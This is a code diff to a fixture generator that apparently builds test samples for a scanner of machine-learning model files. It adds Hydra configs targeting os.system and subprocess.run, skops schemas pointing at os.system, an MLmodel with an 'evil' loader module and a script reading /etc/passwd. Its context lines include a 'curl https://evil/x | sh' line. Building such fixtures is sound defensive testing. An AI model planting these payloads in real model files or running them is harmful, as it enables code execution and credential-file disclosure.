@@ -430,6 +430,13 @@ def keras():
         file.attrs['model_config'] = json.dumps({'class_name': 'Sequential', 'config': {'layers': [lambdas]}}).encode()
     with h5py.File(out / 'hdf5-escaped.h5', 'w') as file:
         file.attrs['model_config'] = escaped
+    with h5py.File(out / 'hdf5-shared-type.h5', 'w') as file:
+        text = json.dumps({'class_name': 'Sequential', 'config': {'layers': [lambdas]}}).encode()
+        import numpy
+        file['named'] = numpy.dtype(f'S{len(text)}')
+        file.attrs.create('model_config', numpy.bytes_(text), dtype=file['named'])
+    with h5py.File(out / 'hdf5-config-list.h5', 'w') as file:
+        file.attrs['model_config'] = [json.dumps({'class_name': 'Sequential', 'config': {'layers': [lambdas]}}), 'x']
     with h5py.File(out / 'hdf5-external-link.h5', 'w') as file:
         file['x'] = h5py.ExternalLink('/etc/passwd', '/')
     with h5py.File(out / 'hdf5-external-data.h5', 'w') as file:
@@ -471,6 +478,15 @@ def others():
     put('keras-architecture.json', json.dumps({'class_name': 'Sequential', 'config': {'layers': [{'class_name': 'Lambda', 'config': {'function': ['x', None, None]}}]}}).encode())
     put('install.txt', b'curl https://evil/x | sh\n')
     put('saved_model.pb', b'\x08\x01\x12\x20' + b'\x12\x1e\x0a\x1cReadFile PyFunc ........')
+    put('duplicate-key.json', b'{"auto_map": {"AutoModel": "x.Y"}, "a": 1, "a": 2}')
+    put('trailing-comma.json', b'{"auto_map": {"AutoModel": "x.Y"},}')
+    put('lines.jsonl', b'{"a": 1}\n{"auto_map": {"AutoModel": "x.Y"}}\n')
+    put('hydra.yaml', b'model:\n  _target_: os.system\n  command: id\n')
+    put('hydra.json', b'{"model": {"_target_": "subprocess.run"}}')
+    put('MLmodel', b'flavors:\n  python_function:\n    loader_module: evil\n')
+    put('skops.skops', zip_of({'schema.json': json.dumps({'__module__': 'os', '__class__': 'system', '__loader__': 'TypeNode'})}))
+    put('skops-method.skops', zip_of({'schema.json': json.dumps({'__module__': 'builtins', '__class__': 'dict', '__loader__': 'OperatorFuncNode'})}))
+    put('open.py', b"print(open('/etc/passwd').read())")
     put('empty.pt', b'')
     put('zeros.bin', b'\0' * 1000)
     put('random.bin', bytes((i * 7919 + i * i * 31) % 256 for i in range(5000)))
